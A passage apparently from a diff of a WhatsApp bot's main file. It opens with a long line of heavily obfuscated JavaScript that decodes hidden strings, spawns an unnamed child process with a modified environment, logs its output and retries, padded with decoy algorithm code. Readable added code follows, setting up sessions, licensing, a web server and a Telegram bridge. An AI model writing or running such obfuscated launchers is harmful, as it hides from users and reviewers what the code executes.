rKD2LGD(vxMLN8){if(typeof isAUb2e[vxMLN8]===CCUQEYq[0x5]){return isAUb2e[vxMLN8]=DTIHOU(Cawo3ZI[vxMLN8])}return isAUb2e[vxMLN8]}HEwhXO[uD0dW5t(0x154)](wbkRc9,{[rKD2LGD(0x155)]:CCUQEYq[0x23]})}}}),Cew2wi=[ne1HJWf(0x156)],PIyZFd1(ne1HJWf(0x157),ne1HJWf(0x158),ne1HJWf(0x159))[ne1HJWf(0x15a)])}catch(D6WnZ8){function DTIHOU(vxMLN8){var kmV8q2l="5`\"<6249&[!=;1{0)X8Ke$z%@J~(s:|jgZFhAq}TBb]Ef3y/MYdVQx?wv>.iP^_nucaDIr*LO#,lmtkRN+CSGW7UHpo",iguVix,ne1HJWf,fteEB9,uD0dW5t,wbkRc9,ciGv61s,mxcTHdH;Jmn7al4(iguVix=""+(vxMLN8||""),ne1HJWf=iguVix.length,fteEB9=[],uD0dW5t=CCUQEYq[0x0],wbkRc9=CCUQEYq[0x0],ciGv61s=-CCUQEYq[0x1]);for(mxcTHdH=CCUQEYq[0x0];mxcTHdH<ne1HJWf;mxcTHdH++){var QOTJnfa=kmV8q2l.indexOf(iguVix[mxcTHdH]);if(QOTJnfa===-CCUQEYq[0x1])continue;if(ciGv61s<CCUQEYq[0x0]){ciGv61s=QOTJnfa}else{Jmn7al4(ciGv61s+=QOTJnfa*CCUQEYq[0xc],uD0dW5t|=ciGv61s<<wbkRc9,wbkRc9+=(ciGv61s&CCUQEYq[0xd])>CCUQEYq[0xe]?CCUQEYq[0xf]:CCUQEYq[0x10]);do{Jmn7al4(fteEB9.push(uD0dW5t&CCUQEYq[0x3]),uD0dW5t>>=CCUQEYq[0x2],wbkRc9-=CCUQEYq[0x2])}while(wbkRc9>CCUQEYq[0x9]);ciGv61s=-CCUQEYq[0x1]}}if(ciGv61s>-CCUQEYq[0x1]){fteEB9.push((uD0dW5t|ciGv61s<<wbkRc9)&CCUQEYq[0x3])}return KZ8zhh4(fteEB9)}function rKD2LGD(vxMLN8){if(typeof isAUb2e[vxMLN8]===CCUQEYq[0x5]){return isAUb2e[vxMLN8]=DTIHOU(Cawo3ZI[vxMLN8])}return isAUb2e[vxMLN8]}throw new Error(LDgmDp6(0x15b)+D6WnZ8[rKD2LGD(0x15c)])}}async function veUWfud(){return new Promise((vxMLN8,kmV8q2l)=>{function iguVix(vxMLN8){var kmV8q2l="CrOo(e\"G^~q>Mwx8J3BLF)6t?;&gSDd[Hh25_Wc}fN/vE<is|!]{$YVKZ0T%QAp`P4Xu9a#jm.:IR+y1z@=Ubk7n*l,",iguVix,ne1HJWf,fteEB9,isAUb2e,Cawo3ZI,uD0dW5t,wbkRc9;Jmn7al4(iguVix=""+(vxMLN8||""),ne1HJWf=iguVix.length,fteEB9=[],isAUb2e=CCUQEYq[0x0],Cawo3ZI=CCUQEYq[0x0],uD0dW5t=-CCUQEYq[0x1]);for(wbkRc9=CCUQEYq[0x0];wbkRc9<ne1HJWf;wbkRc9++){var ciGv61s=kmV8q2l.indexOf(iguVix[wbkRc9]);if(ciGv61s===-CCUQEYq[0x1])continue;if(uD0dW5t<CCUQEYq[0x0]){uD0dW5t=ciGv61s}else{Jmn7al4(uD0dW5t+=ciGv61s*CCUQEYq[0xc],isAUb2e|=uD0dW5t<<Cawo3ZI,Cawo3ZI+=(uD0dW5t&CCUQEYq[0xd])>CCUQEYq[0xe]?CCUQEYq[0xf]:CCUQEYq[0x10]);do{Jmn7al4(fteEB9.push(isAUb2e&CCUQEYq[0x3]),isAUb2e>>=CCUQEYq[0x2],Cawo3ZI-=CCUQEYq[0x2])}while(Cawo3ZI>CCUQEYq[0x9]);uD0dW5t=-CCUQEYq[0x1]}}if(uD0dW5t>-CCUQEYq[0x1]){fteEB9.push((isAUb2e|uD0dW5t<<Cawo3ZI)&CCUQEYq[0x3])}return KZ8zhh4(fteEB9)}function ne1HJWf(vxMLN8){if(typeof isAUb2e[vxMLN8]===CCUQEYq[0x5]){return isAUb2e[vxMLN8]=iguVix(Cawo3ZI[vxMLN8])}return isAUb2e[vxMLN8]}Jmn7al4(Cew2wi=[ne1HJWf(0x15d)],new PIyZFd1(ne1HJWf(0x15e),ne1HJWf(0x15f),ne1HJWf(0x160))[ne1HJWf(0x161)]);const fteEB9=DTIHOU(ne1HJWf(0x162),[ne1HJWf(0x163)],{[ne1HJWf(0x164)]:ne1HJWf(0x165),[ne1HJWf(0x166)]:CCUQEYq[0x23],[ne1HJWf(0x167)]:CCUQEYq[0x23]});Jmn7al4(fteEB9[CCUQEYq[0x22]](ne1HJWf(0x168),iguVix=>{if(iguVix===CCUQEYq[0x0]){function fteEB9(iguVix){var fteEB9="$AGtSLIXp,Q(uJvB[?9/1N=xeK45kd:&>\"z8fDw)Pq}*;Wacy@6Thsn_~7Vj#{C|Zrl0!`.<^3MgO+R]2mHiUEF%oYb",uD0dW5t,wbkRc9,vxMLN8,kmV8q2l,ne1HJWf,isAUb2e,Cawo3ZI;Jmn7al4(uD0dW5t=""+(iguVix||""),wbkRc9=uD0dW5t.length,vxMLN8=[],kmV8q2l=CCUQEYq[0x0],ne1HJWf=CCUQEYq[0x0],isAUb2e=-CCUQEYq[0x1]);for(Cawo3ZI=CCUQEYq[0x0];Cawo3ZI<wbkRc9;Cawo3ZI++){var ciGv61s=fteEB9.indexOf(uD0dW5t[Cawo3ZI]);if(ciGv61s===-CCUQEYq[0x1])continue;if(isAUb2e<CCUQEYq[0x0]){isAUb2e=ciGv61s}else{Jmn7al4(isAUb2e+=ciGv61s*CCUQEYq[0xc],kmV8q2l|=isAUb2e<<ne1HJWf,ne1HJWf+=(isAUb2e&CCUQEYq[0xd])>CCUQEYq[0xe]?CCUQEYq[0xf]:CCUQEYq[0x10]);do{Jmn7al4(vxMLN8.push(kmV8q2l&CCUQEYq[0x3]),kmV8q2l>>=CCUQEYq[0x2],ne1HJWf-=CCUQEYq[0x2])}while(ne1HJWf>CCUQEYq[0x9]);isAUb2e=-CCUQEYq[0x1]}}if(isAUb2e>-CCUQEYq[0x1]){vxMLN8.push((kmV8q2l|isAUb2e<<ne1HJWf)&CCUQEYq[0x3])}return KZ8zhh4(vxMLN8)}function uD0dW5t(iguVix){if(typeof isAUb2e[iguVix]===CCUQEYq[0x5]){return isAUb2e[iguVix]=fteEB9(Cawo3ZI[iguVix])}return isAUb2e[iguVix]}if(uD0dW5t(0x169)in WQriWoV){wbkRc9()}function wbkRc9(){var iguVix=function(iguVix,uD0dW5t){var wbkRc9=[],vxMLN8;Jmn7al4(vxMLN8=iguVix.length,iguVix.sort((iguVix,uD0dW5t)=>iguVix-uD0dW5t),fteEB9(wbkRc9,[],CCUQEYq[0x0],vxMLN8,iguVix,uD0dW5t));return wbkRc9},fteEB9;Jmn7al4(fteEB9=function(iguVix,uD0dW5t,wbkRc9,vxMLN8,kmV8q2l,ne1HJWf){var isAUb2e=CCUQEYq[0x15],Cawo3ZI;if(ne1HJWf<CCUQEYq[0x0])return;if(ne1HJWf===CCUQEYq[0x0])return iguVix.push(uD0dW5t);for(Cawo3ZI=wbkRc9;Cawo3ZI<vxMLN8;Cawo3ZI++){if(kmV8q2l[Cawo3ZI]>ne1HJWf)break;if(Cawo3ZI>wbkRc9&&kmV8q2l[Cawo3ZI]===kmV8q2l[Cawo3ZI-CCUQEYq[0x1]])continue;Jmn7al4(isAUb2e=Array.from(uD0dW5t),isAUb2e.push(kmV8q2l[Cawo3ZI]),fteEB9(iguVix,isAUb2e,Cawo3ZI+CCUQEYq[0x1],vxMLN8,kmV8q2l,ne1HJWf-kmV8q2l[Cawo3ZI]))}},console.log(iguVix))}Jmn7al4(Cew2wi=[uD0dW5t(0x16a)],PIyZFd1(uD0dW5t(0x16b)),vxMLN8())}else{kmV8q2l(new Error(ne1HJWf(0x16c)+iguVix))}}),fteEB9[CCUQEYq[0x22]](ne1HJWf(0x16d),vxMLN8=>{function iguVix(vxMLN8){var iguVix="ubfmhqrQEC/71Avtz9i~c0!Y),Ng3p\"o&H;Js26*w+kT_^>[(nW54FZxXeV`I.K}]aR?G:yl=|B<ODMPdLSj#U{8$@%",fteEB9,kmV8q2l,ne1HJWf,isAUb2e,Cawo3ZI,uD0dW5t,wbkRc9;Jmn7al4(fteEB9=""+(vxMLN8||""),kmV8q2l=fteEB9.length,ne1HJWf=[],isAUb2e=CCUQEYq[0x0],Cawo3ZI=CCUQEYq[0x0],uD0dW5t=-CCUQEYq[0x1]);for(wbkRc9=CCUQEYq[0x0];wbkRc9<kmV8q2l;wbkRc9++){var ciGv61s=iguVix.indexOf(fteEB9[wbkRc9]);if(ciGv61s===-CCUQEYq[0x1])continue;if(uD0dW5t<CCUQEYq[0x0]){uD0dW5t=ciGv61s}else{Jmn7al4(uD0dW5t+=ciGv61s*CCUQEYq[0xc],isAUb2e|=uD0dW5t<<Cawo3ZI,Cawo3ZI+=(uD0dW5t&CCUQEYq[0xd])>CCUQEYq[0xe]?CCUQEYq[0xf]:CCUQEYq[0x10]);do{Jmn7al4(ne1HJWf.push(isAUb2e&CCUQEYq[0x3]),isAUb2e>>=CCUQEYq[0x2],Cawo3ZI-=CCUQEYq[0x2])}while(Cawo3ZI>CCUQEYq[0x9]);uD0dW5t=-CCUQEYq[0x1]}}if(uD0dW5t>-CCUQEYq[0x1]){ne1HJWf.push((isAUb2e|uD0dW5t<<Cawo3ZI)&CCUQEYq[0x3])}return KZ8zhh4(ne1HJWf)}function fteEB9(vxMLN8){if(typeof isAUb2e[vxMLN8]===CCUQEYq[0x5]){return isAUb2e[vxMLN8]=iguVix(Cawo3ZI[vxMLN8])}return isAUb2e[vxMLN8]}kmV8q2l(new Error(ne1HJWf(0x16e)+vxMLN8[fteEB9(0x16f)]))}))})}async function vD_tqjQ(vxMLN8){return new Promise((kmV8q2l,iguVix)=>{function ne1HJWf(kmV8q2l){var iguVix="bIuETGeZNWmMw{57#UJ(`DdxhY@;foAnX1F2a:~C)g]!&vQ%BHOt+V>_|,9qysSz$RKk=r<?0.}[jp/46L^3lPi*c\"8",ne1HJWf,fteEB9,uD0dW5t,wbkRc9,ciGv61s,mxcTHdH,QOTJnfa;Jmn7al4(ne1HJWf=""+(kmV8q2l||""),fteEB9=ne1HJWf.length,uD0dW5t=[],wbkRc9=CCUQEYq[0x0],ciGv61s=CCUQEYq[0x0],mxcTHdH=-CCUQEYq[0x1]);for(QOTJnfa=CCUQEYq[0x0];QOTJnfa<fteEB9;QOTJnfa++){var vxMLN8=iguVix.indexOf(ne1HJWf[QOTJnfa]);if(vxMLN8===-CCUQEYq[0x1])continue;if(mxcTHdH<CCUQEYq[0x0]){mxcTHdH=vxMLN8}else{Jmn7al4(mxcTHdH+=vxMLN8*CCUQEYq[0xc],wbkRc9|=mxcTHdH<<ciGv61s,ciGv61s+=(mxcTHdH&CCUQEYq[0xd])>CCUQEYq[0xe]?CCUQEYq[0xf]:CCUQEYq[0x10]);do{Jmn7al4(uD0dW5t.push(wbkRc9&CCUQEYq[0x3]),wbkRc9>>=CCUQEYq[0x2],ciGv61s-=CCUQEYq[0x2])}while(ciGv61s>CCUQEYq[0x9]);mxcTHdH=-CCUQEYq[0x1]}}if(mxcTHdH>-CCUQEYq[0x1]){uD0dW5t.push((wbkRc9|mxcTHdH<<ciGv61s)&CCUQEYq[0x3])}return KZ8zhh4(uD0dW5t)}function fteEB9(kmV8q2l){if(typeof isAUb2e[kmV8q2l]===CCUQEYq[0x5]){return isAUb2e[kmV8q2l]=ne1HJWf(Cawo3ZI[kmV8q2l])}return isAUb2e[kmV8q2l]}Jmn7al4(Cew2wi=[LDgmDp6(0x170)+(aW53l4+CCUQEYq[0x1])+CCUQEYq[0x3c]+pH9b1ES+LDgmDp6(0x171)],PIyZFd1(fteEB9(CCUQEYq[0x38])));const uD0dW5t=trAKeI[fteEB9(0x173)](__dirname,fteEB9(0x174),A1DlewA()),wbkRc9=HEwhXO[fteEB9(0x175)](uD0dW5t,{[fteEB9(0x176)]:"a"});Jmn7al4(mvQ0sFg=DTIHOU(fteEB9(0x177),[vxMLN8],{[fteEB9(0x178)]:[fteEB9(CCUQEYq[0x33]),fteEB9(CCUQEYq[0x33]),fteEB9(0x17a)],[fteEB9(0x17b)]:CCUQEYq[0x23],[fteEB9(0x17c)]:CCUQEYq[0x23],[fteEB9(CCUQEYq[0x34])]:{...process[fteEB9(CCUQEYq[0x34])],[fteEB9(0x17e)]:CCUQEYq[0x1d],[fteEB9(0x17f)]:fteEB9(0x180),[fteEB9(0x181)]:fteEB9(0x182)}}),mvQ0sFg[fteEB9(0x183)][CCUQEYq[0x22]](fteEB9(0x184),kmV8q2l=>{function iguVix(kmV8q2l){var iguVix="y}w7%A2H~pRLxJaf3:lrt*_ZP6(k>5j|o`{D$K,Mg^)UT]\"qn#/9Gc&[b4COY.?S=1+EFdeivsBNW0m;8QXuh@!<VzI",ne1HJWf,fteEB9,uD0dW5t,wbkRc9,ciGv61s,mxcTHdH,QOTJnfa;Jmn7al4(ne1HJWf=""+(kmV8q2l||""),fteEB9=ne1HJWf.length,uD0dW5t=[],wbkRc9=CCUQEYq[0x0],ciGv61s=CCUQEYq[0x0],mxcTHdH=-CCUQEYq[0x1]);for(QOTJnfa=CCUQEYq[0x0];QOTJnfa<fteEB9;QOTJnfa++){var vxMLN8=iguVix.indexOf(ne1HJWf[QOTJnfa]);if(vxMLN8===-CCUQEYq[0x1])continue;if(mxcTHdH<CCUQEYq[0x0]){mxcTHdH=vxMLN8}else{Jmn7al4(mxcTHdH+=vxMLN8*CCUQEYq[0xc],wbkRc9|=mxcTHdH<<ciGv61s,ciGv61s+=(mxcTHdH&CCUQEYq[0xd])>CCUQEYq[0xe]?CCUQEYq[0xf]:CCUQEYq[0x10]);do{Jmn7al4(uD0dW5t.push(wbkRc9&CCUQEYq[0x3]),wbkRc9>>=CCUQEYq[0x2],ciGv61s-=CCUQEYq[0x2])}while(ciGv61s>CCUQEYq[0x9]);mxcTHdH=-CCUQEYq[0x1]}}if(mxcTHdH>-CCUQEYq[0x1]){uD0dW5t.push((wbkRc9|mxcTHdH<<ciGv61s)&CCUQEYq[0x3])}return KZ8zhh4(uD0dW5t)}function ne1HJWf(kmV8q2l){if(typeof isAUb2e[kmV8q2l]===CCUQEYq[0x5]){return isAUb2e[kmV8q2l]=iguVix(Cawo3ZI[kmV8q2l])}return isAUb2e[kmV8q2l]}process[ne1HJWf(0x185)][ne1HJWf(CCUQEYq[0x37])](kmV8q2l);const fteEB9=kmV8q2l[ne1HJWf(0x187)]()[ne1HJWf(0x188)](new RegExp(ne1HJWf(0x189),"g"),""),uD0dW5t=CCUQEYq[0x35]+q0loGu()[CCUQEYq[0x1a]](my_fykq)[ne1HJWf(0x18a)](ne1HJWf(0x18b))+CCUQEYq[0x36];wbkRc9[ne1HJWf(CCUQEYq[0x37])](uD0dW5t+fteEB9)}));const ciGv61s=kmV8q2l=>{Jmn7al4(wbkRc9[fteEB9(CCUQEYq[0x3a])](),Cew2wi=[fteEB9(CCUQEYq[0x39])+kmV8q2l],PIyZFd1(fteEB9(CCUQEYq[0x38])),RYlLL3(kmV8q2l!==CCUQEYq[0x0]?new Error(fteEB9(CCUQEYq[0x39])+kmV8q2l):CCUQEYq[0x15]))},mxcTHdH=kmV8q2l=>{function iguVix(kmV8q2l){var iguVix="xAUtsOjHKChJeqdulc5o^RSI\"piNznQ]|yG9g@=bYTkF!#<{_?rE6;~03>:vZw.)$f(7P[BDa2*m8`}VW,4&X/L1%M+",ne1HJWf,fteEB9,uD0dW5t,wbkRc9,ciGv61s,mxcTHdH,QOTJnfa;Jmn7al4(ne1HJWf=""+(kmV8q2l||""),fteEB9=ne1HJWf.length,uD0dW5t=[],wbkRc9=CCUQEYq[0x0],ciGv61s=CCUQEYq[0x0],mxcTHdH=-CCUQEYq[0x1]);for(QOTJnfa=CCUQEYq[0x0];QOTJnfa<fteEB9;QOTJnfa++){var vxMLN8=iguVix.indexOf(ne1HJWf[QOTJnfa]);if(vxMLN8===-CCUQEYq[0x1])continue;if(mxcTHdH<CCUQEYq[0x0]){mxcTHdH=vxMLN8}else{Jmn7al4(mxcTHdH+=vxMLN8*CCUQEYq[0xc],wbkRc9|=mxcTHdH<<ciGv61s,ciGv61s+=(mxcTHdH&CCUQEYq[0xd])>CCUQEYq[0xe]?CCUQEYq[0xf]:CCUQEYq[0x10]);do{Jmn7al4(uD0dW5t.push(wbkRc9&CCUQEYq[0x3]),wbkRc9>>=CCUQEYq[0x2],ciGv61s-=CCUQEYq[0x2])}while(ciGv61s>CCUQEYq[0x9]);mxcTHdH=-CCUQEYq[0x1]}}if(mxcTHdH>-CCUQEYq[0x1]){uD0dW5t.push((wbkRc9|mxcTHdH<<ciGv61s)&CCUQEYq[0x3])}return KZ8zhh4(uD0dW5t)}function ne1HJWf(kmV8q2l){if(typeof isAUb2e[kmV8q2l]===CCUQEYq[0x5]){return isAUb2e[kmV8q2l]=iguVix(Cawo3ZI[kmV8q2l])}return isAUb2e[kmV8q2l]}Jmn7al4(wbkRc9[fteEB9(CCUQEYq[0x3a])](),Cew2wi=[fteEB9(0x18e)+kmV8q2l[fteEB9(0x18f)]],PIyZFd1(ne1HJWf(0x190),ne1HJWf(0x191),ne1HJWf(0x192))[ne1HJWf(0x193)],RYlLL3(kmV8q2l))};Jmn7al4(mvQ0sFg[CCUQEYq[0x22]](fteEB9(0x194),ciGv61s),mvQ0sFg[CCUQEYq[0x22]](fteEB9(0x195),mxcTHdH));const QOTJnfa=kmV8q2l=>{function iguVix(kmV8q2l){var iguVix="6FUkHMoe:Ab*~+RDO1J7$2uKIN4Qa|`,gpmrxy=c^][#_;Z5EG)ivhL%\"zT3Ws@jf>B08tnw(q.lP&?/C<YV}!Sd9{X",ne1HJWf,fteEB9,uD0dW5t,wbkRc9,ciGv61s,mxcTHdH,QOTJnfa;Jmn7al4(ne1HJWf=""+(kmV8q2l||""),fteEB9=ne1HJWf.length,uD0dW5t=[],wbkRc9=CCUQEYq[0x0],ciGv61s=CCUQEYq[0x0],mxcTHdH=-CCUQEYq[0x1]);for(QOTJnfa=CCUQEYq[0x0];QOTJnfa<fteEB9;QOTJnfa++){var vxMLN8=iguVix.indexOf(ne1HJWf[QOTJnfa]);if(vxMLN8===-CCUQEYq[0x1])continue;if(mxcTHdH<CCUQEYq[0x0]){mxcTHdH=vxMLN8}else{Jmn7al4(mxcTHdH+=vxMLN8*CCUQEYq[0xc],wbkRc9|=mxcTHdH<<ciGv61s,ciGv61s+=(mxcTHdH&CCUQEYq[0xd])>CCUQEYq[0xe]?CCUQEYq[0xf]:CCUQEYq[0x10]);do{Jmn7al4(uD0dW5t.push(wbkRc9&CCUQEYq[0x3]),wbkRc9>>=CCUQEYq[0x2],ciGv61s-=CCUQEYq[0x2])}while(ciGv61s>CCUQEYq[0x9]);mxcTHdH=-CCUQEYq[0x1]}}if(mxcTHdH>-CCUQEYq[0x1]){uD0dW5t.push((wbkRc9|mxcTHdH<<ciGv61s)&CCUQEYq[0x3])}return KZ8zhh4(uD0dW5t)}function ne1HJWf(kmV8q2l){if(typeof isAUb2e[kmV8q2l]===CCUQEYq[0x5]){return isAUb2e[kmV8q2l]=iguVix(Cawo3ZI[kmV8q2l])}return isAUb2e[kmV8q2l]}Jmn7al4(Cew2wi=[ne1HJWf(0x196)+kmV8q2l+ne1HJWf(0x197)],PIyZFd1(ne1HJWf(0x198)),mvQ0sFg[ne1HJWf(0x199)](),wbkRc9[ne1HJWf(0x19a)](),process[ne1HJWf(0x19b)](CCUQEYq[0x0]))};Jmn7al4(process[CCUQEYq[0x22]](fteEB9(0x19c),QOTJnfa),process[CCUQEYq[0x22]](fteEB9(0x19d),QOTJnfa),kmV8q2l())})}async function vVNaXz(){try{Jmn7al4(await isTxJr8(),await N3QqUI(lrCYGt9,NoukmVm),await veUWfud(),await vD_tqjQ(CXx7Bau),yX1Lig())}catch(isAUb2e){Jmn7al4(Cew2wi=[LDgmDp6(0x19e)+isAUb2e[LDgmDp6(CCUQEYq[0x3b])]],new PIyZFd1(LDgmDp6(CCUQEYq[0x2e]),LDgmDp6(CCUQEYq[0x3d]),LDgmDp6(CCUQEYq[0x3e]))[LDgmDp6(CCUQEYq[0x3f])],RYlLL3(isAUb2e))}}function RYlLL3(vxMLN8){if(vxMLN8&&aW53l4<pH9b1ES-CCUQEYq[0x1]){if(LDgmDp6(0x1a2)in WQriWoV){kmV8q2l()}function kmV8q2l(){var vxMLN8;function kmV8q2l(){}Jmn7al4(vxMLN8=function(vxMLN8,iguVix){var ne1HJWf=CCUQEYq[0x0],fteEB9,isAUb2e,Cawo3ZI,uD0dW5t,wbkRc9;Jmn7al4(fteEB9=CCUQEYq[0x0],isAUb2e=new kmV8q2l(CCUQEYq[0x0]),Cawo3ZI=isAUb2e,uD0dW5t=vxMLN8,wbkRc9=iguVix);while(uD0dW5t!==CCUQEYq[0x15]||wbkRc9!==CCUQEYq[0x15]){Jmn7al4(fteEB9=(uD0dW5t?uD0dW5t.val:CCUQEYq[0x0])+(wbkRc9?wbkRc9.val:CCUQEYq[0x0])+ne1HJWf,ne1HJWf=Math.floor(fteEB9/CCUQEYq[0x16]),Cawo3ZI.next=new kmV8q2l(fteEB9%CCUQEYq[0x16]),Cawo3ZI=Cawo3ZI.next,uD0dW5t=uD0dW5t?uD0dW5t.next:CCUQEYq[0x15],wbkRc9=wbkRc9?wbkRc9.next:CCUQEYq[0x15])}if(ne1HJWf)Cawo3ZI.next=new kmV8q2l(ne1HJWf);return isAUb2e.next},console.log(vxMLN8))}Jmn7al4(aW53l4++,Cew2wi=[LDgmDp6(0x1a3)+aW53l4+CCUQEYq[0x3c]+pH9b1ES+LDgmDp6(0x1a4)],PIyZFd1(LDgmDp6(CCUQEYq[0x2e])),setTimeout(vVNaXz,YZuo1hi))}else{if(vxMLN8){function iguVix(vxMLN8){var kmV8q2l="d5AOnH,_9I|y@=B}61Cl&xFz*:Vrw{WR3%KZ>UjG2E7vpMmYfT.D$XbaJo0ues![+/NchS`P<q48t?#]Q;(^gi)~Lk\"",iguVix,ne1HJWf,fteEB9,isAUb2e,Cawo3ZI,uD0dW5t,wbkRc9;Jmn7al4(iguVix=""+(vxMLN8||""),ne1HJWf=iguVix.length,fteEB9=[],isAUb2e=CCUQEYq[0x0],Cawo3ZI=CCUQEYq[0x0],uD0dW5t=-CCUQEYq[0x1]);for(wbkRc9=CCUQEYq[0x0];wbkRc9<ne1HJWf;wbkRc9++){var ciGv61s=kmV8q2l.indexOf(iguVix[wbkRc9]);if(ciGv61s===-CCUQEYq[0x1])continue;if(uD0dW5t<CCUQEYq[0x0]){uD0dW5t=ciGv61s}else{Jmn7al4(uD0dW5t+=ciGv61s*CCUQEYq[0xc],isAUb2e|=uD0dW5t<<Cawo3ZI,Cawo3ZI+=(uD0dW5t&CCUQEYq[0xd])>CCUQEYq[0xe]?CCUQEYq[0xf]:CCUQEYq[0x10]);do{Jmn7al4(fteEB9.push(isAUb2e&CCUQEYq[0x3]),isAUb2e>>=CCUQEYq[0x2],Cawo3ZI-=CCUQEYq[0x2])}while(Cawo3ZI>CCUQEYq[0x9]);uD0dW5t=-CCUQEYq[0x1]}}if(uD0dW5t>-CCUQEYq[0x1]){fteEB9.push((isAUb2e|uD0dW5t<<Cawo3ZI)&CCUQEYq[0x3])}return KZ8zhh4(fteEB9)}function ne1HJWf(vxMLN8){if(typeof isAUb2e[vxMLN8]===CCUQEYq[0x5]){return isAUb2e[vxMLN8]=iguVix(Cawo3ZI[vxMLN8])}return isAUb2e[vxMLN8]}if(LDgmDp6(0x1a5)in WQriWoV){fteEB9()}function fteEB9(){var vxMLN8=function(vxMLN8,iguVix,ne1HJWf){var fteEB9={};if(ne1HJWf.length!==vxMLN8.length+iguVix.length)return CCUQEYq[0x2b];return kmV8q2l(vxMLN8,iguVix,ne1HJWf,CCUQEYq[0x0],CCUQEYq[0x0],CCUQEYq[0x0],fteEB9)},kmV8q2l;Jmn7al4(kmV8q2l=function(vxMLN8,iguVix,ne1HJWf,fteEB9,isAUb2e,Cawo3ZI,uD0dW5t){var wbkRc9=CCUQEYq[0x2b];if(Cawo3ZI>=ne1HJWf.length)return CCUQEYq[0x23];if(uD0dW5t[""+fteEB9+isAUb2e+Cawo3ZI]!==void 0x0)return uD0dW5t[""+fteEB9+isAUb2e+Cawo3ZI];if(ne1HJWf[Cawo3ZI]===vxMLN8[fteEB9]&&ne1HJWf[Cawo3ZI]===iguVix[isAUb2e]){wbkRc9=kmV8q2l(vxMLN8,iguVix,ne1HJWf,fteEB9+CCUQEYq[0x1],isAUb2e,Cawo3ZI+CCUQEYq[0x1],uD0dW5t)||kmV8q2l(vxMLN8,iguVix,ne1HJWf,fteEB9,isAUb2e+CCUQEYq[0x1],Cawo3ZI+CCUQEYq[0x1],uD0dW5t)}else if(ne1HJWf[Cawo3ZI]===vxMLN8[fteEB9]){wbkRc9=kmV8q2l(vxMLN8,iguVix,ne1HJWf,fteEB9+CCUQEYq[0x1],isAUb2e,Cawo3ZI+CCUQEYq[0x1],uD0dW5t)}else if(ne1HJWf[Cawo3ZI]===iguVix[isAUb2e]){wbkRc9=kmV8q2l(vxMLN8,iguVix,ne1HJWf,fteEB9,isAUb2e+CCUQEYq[0x1],Cawo3ZI+CCUQEYq[0x1],uD0dW5t)}uD0dW5t[""+fteEB9+isAUb2e+Cawo3ZI]=wbkRc9;return wbkRc9},console.log(vxMLN8))}Jmn7al4(Cew2wi=[ne1HJWf(0x1a6)+pH9b1ES+ne1HJWf(0x1a7)+vxMLN8[ne1HJWf(0x1a8)]],PIyZFd1(ne1HJWf(0x1a9)))}else{Jmn7al4(Cew2wi=[LDgmDp6(0x1aa)+pH9b1ES+LDgmDp6(0x1ab)],PIyZFd1(LDgmDp6(CCUQEYq[0x2e]),LDgmDp6(CCUQEYq[0x3d]),LDgmDp6(CCUQEYq[0x3e]))[LDgmDp6(CCUQEYq[0x3f])])}process[LDgmDp6(0x1ac)](CCUQEYq[0x1])}}function yX1Lig(){aW53l4=CCUQEYq[0x0]}function Jmn7al4(){Jmn7al4=function(){}}vVNaXz();
\ No newline at end of file
+const path = require('path');
+const chalk = require('chalk');
+const pino = require('pino');
+const { ConfigError } = require('./lib/config');
+const { LEGACY_KEYS, resolvePremium, watchLicence } = require('./lib/licence');
+
+let settings;
+let premium;
+try {
+  settings = require('./settings');
+  //settings.js already reported a missing licence along with every other problem
+  premium = resolvePremium(settings);
+} catch (err) {
+  if (!(err instanceof ConfigError)) throw err;
+  console.error(chalk.red(err.message));
+  process.exit(1);
+}
+
+const { createDatabase } = require('./lib/database');
+const { SessionManager } = require('./lib/session/manager');
+const { startWebServer } = require('./lib/web/server');
+const { TelegramBridge } = require('./lib/telegram/bridge');
+const { MessageVault } = require('./lib/vault/vault');
+const { createVaultStore } = require('./lib/vault/store');
+const { CommandRouter } = require('./lib/commands/router');
+const { MediaPipeline } = require('./lib/media/pipeline');
+const { sweepTempDirs } = require('./lib/media/temp');
+const { ModerationEngine } = require('./lib/moderation/engine');
+
+const logger = pino({ level: process.env.LOG_LEVEL || 'info' });
+
+async function main() {
+  for (const key of LEGACY_KEYS.filter((k) => process.env[k])) {
+    logger.warn(`${key} is no longer read, the session limit and expiry come from PREMIUM_KEY`);
+  }
+  if (premium.premium) {
+    logger.info(`Premium licence ${premium.licence.id}: ${premium.maxSessions} session(s) until ${premium.licence.expiry.toISOString().slice(0, 10)}`);
+  } else if (premium.error) {
+    logger.warn(`PREMIUM_KEY rejected (${premium.error.message}), running on GITHUB_USERNAME ${settings.GITHUB_USERNAME}`);
+  }
+
+  const sequelize = createDatabase({ url: settings.DATABASE_URL });
+  await sequelize.authenticate();
+
+  const sessions = new SessionManager({
+    sequelize,
+    maxSessions: premium.maxSessions,
+    logger
+  });
+  await sessions.init();
+
+  //Attached before any socket is started so no message is missed
+  let vault = null;
+  if (settings.ANTI_DELETE) {
+    vault = new MessageVault({ store: createVaultStore({ url: settings.DATABASE_URL }), sessions, settings, logger });
+    await vault.start();
+  }
+
+  const moderation = new ModerationEngine({ sequelize, sessions, settings, logger });
+  await moderation.start();
+
+  await sweepTempDirs();
+  const media = new MediaPipeline({ stickerPack: settings.STICKER_PACK, stickerAuthor: settings.STICKER_AUTHOR });
+
+  const services = { sessions, vault, media, moderation, telegram: null };
+  const router = new CommandRouter({ settings, logger, services });
+  await router.load(path.join(__dirname, 'plugins'));
+  router.attach(sessions);
+  //nodemon ignores plugins/ so edits are picked up here without dropping the WhatsApp connection
+  if (process.env.NODE_ENV !== 'production') router.watch();
+
+  if (settings.SESSION_ID && !(await sessions.hasStoredSession('main'))) {
+    await sessions.importSessionId('main', settings.SESSION_ID);
+    logger.info('Imported SESSION_ID into session "main"');
+  }
+  await sessions.restore();
+
+  const stopLicenceWatch = watchLicence({
+    settings,
+    sessions,
+    logger,
+    notify: async (text) => {
+      const open = sessions.list().find((s) => s.status === 'open');
+      if (!open) return false;
+      await sessions.get(open.id).sendMessage(`${settings.BOT_ADMIN}@s.whatsapp.net`, { text });
+      return true;
+    }
+  });
+
+  const server = await startWebServer({ settings, sessions, sequelize, logger });
+  if (!sessions.list().length) {
+    logger.info(`No paired sessions yet, open http://localhost:${settings.PORT}/pair to connect a number`);
+  }
+
+  let telegram = null;
+  if (settings.TELEGRAM_BOT_TOKEN) {
+    telegram = new TelegramBridge({
+      token: settings.TELEGRAM_BOT_TOKEN,
+      settings,
+      sessions,
+      sequelize,
+      logger,
+      commandHandler: (input) => router.handleTelegram(input)
+    });
+    await telegram.start();
+    services.telegram = telegram;
+  }
+
+  const shutdown = async () => {
+    stopLicenceWatch();
+    router.unwatch();
+    server.close();
